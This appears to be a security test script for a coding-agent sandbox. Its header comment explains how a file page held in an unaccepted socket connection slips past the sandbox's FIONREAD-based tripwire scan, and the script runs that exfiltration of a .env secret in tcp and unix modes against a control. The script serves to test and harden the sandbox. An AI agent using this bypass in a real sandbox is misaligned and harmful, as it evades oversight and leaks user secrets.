#!/bin/bash
# Under a policy that lets the agent run a local server (srv.claw: coding_agent plus
# bind/listen/accept), a file page spliced into a local connection nobody accept()ed
# sits in the receive queue of a socket in a listening socket's accept queue. The late
# mark's scan asks each socket descriptor FIONREAD; a listening socket answers EINVAL,
# counted as "holds nothing" (tripwire.rs `queued`). accept() later reads what the user
# wrote into the page.
set -u; . "$(dirname "$0")/../common.sh"
IP=127.79.9.4
D=$R9/accept-queue-page-holder; W=$D/ws H=$D/home; rm -rf $W $H; mkdir -p $W $H
gcc -O1 -o $W/acceptq $D/acceptq.c
$ROOT/target/debug/clawc compile $D/srv.claw -o $D/srv.bin >/dev/null 2>&1 || { echo "compile failed"; exit 1; }
outside() { # the user's tool: rename draft to .env, then write the secret into it in place
  for i in $(seq 600); do [ -e $W/ready ] && break; sleep 0.05; done; [ -e $W/ready ] || return; mv $W/draft $W/.env; sleep 0.5
  printf "SECRET-ENV-$1\n" | dd of=$W/.env conv=notrunc status=none; }
try() { # try NAME MODE
  printf 'draft-draft-draft-draft-draft\n' > $W/draft; rm -f $W/.env $W/ready
  outside $1 & CPID=$!
  (cd $W && env -u XDG_CACHE_HOME HOME=$H PATH=/usr/bin:/bin CLAWLESS_KERNEL_OPENS=1 CLAWLESS_TRACE_DISCOVERY=1 timeout 60 $CLAW exec --policy $D/srv.bin --mode isolated --workspace $W -- ./acceptq $IP draft 3 $2) 2>&1 | grep -v "^clawless: discovery\|walk"; wait $CPID
  echo "--- .env now: $(cat $W/.env)"; }
for mode in tcp unix; do
  listen $IP $D/out-$mode.txt
  echo "== attack ($mode): the page is held by an unaccepted connection only"; try $mode $mode
  verdict $D/out-$mode.txt SECRET-ENV-$mode
done
listen $IP $D/out-control.txt
echo "== control: the connection accept()ed before the mark (a socket descriptor with data queued)"; try control control
verdict $D/out-control.txt SECRET-ENV-control
rm -f $D/srv.bin
